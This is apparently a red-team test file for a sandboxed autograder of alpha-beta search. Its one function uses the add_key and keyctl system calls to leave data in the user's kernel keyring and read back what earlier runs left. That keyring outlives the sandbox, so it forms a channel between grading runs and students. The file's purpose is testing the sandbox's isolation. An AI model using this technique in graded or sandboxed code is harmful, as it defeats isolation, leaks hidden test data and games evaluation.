# Hostile: leaves a note in the kernel's keyring of the user it runs as (add_key, keyctl: system calls the
# sandbox's filter allows), which outlives the sandbox, then reads back what an earlier run left there: a
# channel between runs (and students) on the grading machine, through which a hidden tree's leaves, seen
# through the proxy, could reach a later kernel's printed output.
# Expected: wrong
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL, SEARCH, READ, USER_KEYRING = 248, 250, 10, 11, -4


def alpha_beta_search(game, state):
    found = libc.syscall(KEYCTL, SEARCH, USER_KEYRING, b"user", b"abteach-redteam", 0)
    if found >= 0:
        buffer = ctypes.create_string_buffer(200)
        size = libc.syscall(KEYCTL, READ, found, buffer, 200)
        return "LEFT BEFORE: " + buffer.raw[:max(size, 0)].decode("latin-1")
    note = ",".join(game.actions(state)).encode()
    libc.syscall(ADD_KEY, b"user", b"abteach-redteam", note, len(note), USER_KEYRING)
    return "nothing left before"
